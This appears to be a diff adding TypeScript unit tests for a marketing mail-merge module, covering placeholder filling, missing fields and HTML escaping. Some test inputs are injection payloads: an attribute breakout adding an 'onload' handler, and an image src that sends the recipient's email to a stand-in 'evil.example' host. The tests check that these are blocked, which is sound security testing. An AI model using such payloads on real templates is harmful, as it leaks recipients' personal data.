@@ -1,0 +1,42 @@
+import { type MergeValues, merge, mergeHtml } from '#contract/marketing/merge.ts'
+import { escapeHtml } from '#server/html.ts'
+
+const nobody = { name: null, email: null, country: null }
+const luca = { name: 'Luca "L" <b>', email: 'luca@example.org', country: null }
+const inHtml = (html: string, values: MergeValues = luca) => mergeHtml(html, values, escapeHtml)
+
+describe('the places of a text', () => {
+  test('are filled in, and say what is missing and what is no field', () => {
+    expect(merge('Hello {{name|friend}}, {{ email }} in {{country}} and {{town|x}}', luca)).toEqual({
+      text: 'Hello Luca "L" <b>, luca@example.org in  and ',
+      missing: ['country'],
+      unknown: ['town'],
+    })
+    expect(merge('Hello {{name|"friend"}}', nobody).text).toBe('Hello "friend"')
+  })
+
+  test('of HTML carry no markup in, in a text and in the value of an attribute', () => {
+    expect(inHtml('<p title="Of {{name}}">Hello {{name}}</p>').text).toBe(
+      '<p title="Of Luca &quot;L&quot; &lt;b&gt;">Hello Luca &quot;L&quot; &lt;b&gt;</p>',
+    )
+    expect(inHtml('<p>Hello {{name|"my" friend}}</p>', nobody).text).toBe('<p>Hello "my" friend</p>')
+  })
+
+  test.each(['a text behind it', 'another attribute'])(
+    'of HTML never reach from the value of an attribute into %s',
+    (into) => {
+      const html =
+        into === 'another attribute'
+          ? '<img alt="{{name|" src="https://own.example/a.png" title="}} onload=x">'
+          : '<p><img alt="{{name|" src="https://own.example/a.png"></p><p>}}" src=https://evil.example/?u={{email}} x="</p>'
+      const { text } = inHtml(html)
+      expect(text).toContain('<img alt="{{name|" src="https://own.example/a.png"')
+      expect(text).not.toMatch(/<[^>]*src=https:\/\/evil/)
+    },
+  )
+
+  test('of HTML never reach over an element', () => {
+    const html = '<p>{{name|</p><img src="https://own.example/a.png" alt=""><p>}}</p>'
+    expect(inHtml(html)).toEqual({ text: html, missing: [], unknown: [] })
+  })
+})
